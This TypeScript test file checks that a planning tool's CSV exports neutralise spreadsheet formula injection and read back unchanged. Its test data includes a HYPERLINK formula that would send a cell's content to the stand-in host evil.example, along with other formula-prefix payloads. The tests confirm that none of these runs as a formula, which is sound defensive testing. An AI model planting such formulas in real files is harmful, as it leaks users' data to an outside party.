// CSV formula injection (OWASP "CSV Injection"): every CSV duban writes carries a
// byte-order mark precisely so that Excel opens it, so no cell of user text may
// start a formula there; and reading duban's CSV back gives back the text.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { formatPlanCsv, parsePlanCsv } from '../../src/excel/index.js';
import { evaluatePlanSync } from '../../src/index.js';
import { formatCsv } from '../../src/report/format-evaluation.js';
import { parseCsvRows } from '../../src/model/observations-file.js';
import { neutraliseCsvText, restoreCsvText } from '../../src/report/format-evaluation.js';
import { formulaPlan, HYPERLINK_TITLE, runsAsFormula } from './hostile-text.js';

const cellsOf = (csv: string): string[][] => parseCsvRows(csv.replace(/^\uFEFF/, '')).rows.map((row) => [...row.cells]);

describe('neutraliseCsvText', () => {
  it.each([
    ['=1+1', "'=1+1"],
    [HYPERLINK_TITLE, `'${HYPERLINK_TITLE}`],
    ['+市财政局', "'+市财政局"],
    ['-5个百分点', "'-5个百分点"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['-', "'-"],
    ["'=1", "''=1"],
    ["''-x", "'''-x"],
    // Numbers stay numbers.
    ['-8', '-8'],
    ['-0.5', '-0.5'],
    ['+3', '+3'],
    ['-1e-7', '-1e-7'],
    // Nothing to neutralise.
    ['', ''],
    ['市发改委', '市发改委'],
    ['1+1', '1+1'],
    [' =1', ' =1'],
    ["'abc", "'abc"],
    ["'", "'"],
    ["'-5", "''-5"],
  ])('%j → %j', (text, cell) => {
    expect(neutraliseCsvText(text)).toBe(cell);
    expect(restoreCsvText(cell)).toBe(text);
  });

  it('is undone exactly by restoreCsvText, for any text', () => {
    const unit = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '"', ',', '\n', ' ', '1', '.', 'e', '市', 'a');
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 8 }), (text) => {
        const cell = neutraliseCsvText(text);
        expect(restoreCsvText(cell)).toBe(text);
        expect(runsAsFormula(cell)).toBe(false);
      }),
      { numRuns: 5000 },
    );
  });

  it("reads an apostrophe a spreadsheet user typed before a formula character as that mark (`'-5` is -5)", () => {
    expect(restoreCsvText("'-5")).toBe('-5');
    expect(restoreCsvText("'=A1")).toBe('=A1');
  });
});

describe('formatPlanCsv (duban export-excel --format csv)', () => {
  const plan = formulaPlan();
  const csv = formatPlanCsv(plan);

  it('writes no cell that a spreadsheet would run as a formula', () => {
    const cells = cellsOf(csv).flat();
    expect(cells.filter(runsAsFormula)).toEqual([]);
    expect(cells).toContain(`'${HYPERLINK_TITLE}`);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`);
  });

  it('writes numbers as numbers and text that only looks like one as text', () => {
    const rows = cellsOf(csv);
    const header = rows[0]!;
    const row = (id: string) => rows.find((cells) => cells[0] === id)!;
    const column = (name: string) => header.indexOf(name);
    expect(row('T2')[column('目标值')]).toBe('-0.5');
    expect(row('T2')[column('2018-06-30')]).toBe('-0.8');
    expect(row('T2')[column('任务内容')]).toBe("'-5个百分点");
    expect(row('-7')[column('任务内容')]).toBe('-7');
    expect(row('-7')[column('基数')]).toBe('-160');
    // A number followed by its unit is text to a spreadsheet, and is neutralised like any text.
    expect(row('-7')[column('2018-06-30')]).toBe("'-5家");
    expect(row('T4')[column('任务内容')]).toBe("'普通的撇号");
    expect(row('T1')[column('x-note')]).toBe("''=already quoted");
  });

  it('is read back by parsePlanCsv to the same plan', () => {
    expect(parsePlanCsv(csv, { base: plan })).toEqual(plan);
  });
});

describe('formatCsv (duban evaluate --format csv)', () => {
  const plan = formulaPlan();
  const evaluation = evaluatePlanSync(plan, { rules: 'four-level' });
  const csv = formatCsv(evaluation);

  it('writes no cell that a spreadsheet would run as a formula, titles included', () => {
    const rows = cellsOf(csv);
    expect(rows.flat().filter(runsAsFormula)).toEqual([]);
    expect(rows[1]![1]).toBe(`'${HYPERLINK_TITLE}`);
    expect(rows[2]![1]).toBe("'-5个百分点");
  });

  it('keeps the decimal facts as numbers, negative ones included', () => {
    const rows = cellsOf(csv);
    const header = rows[0]!;
    const t2 = rows.find((cells) => cells[0] === 'T2')!;
    expect(t2[header.indexOf('value')]).toBe('-0.8');
    expect(t2[header.indexOf('target')]).toBe('-0.5');
    expect(t2[header.indexOf('margin')]).toBe(evaluation.results[1]!.facts.margin);
    expect(t2[header.indexOf('margin')]).toMatch(/^-\d/);
    // The same text, apart from the titles' marks, as before neutralisation.
    const lines = csv.split('\r\n');
    expect(lines[1]).toMatch(/^T1,"'=HYPERLINK\(/);
  });
});
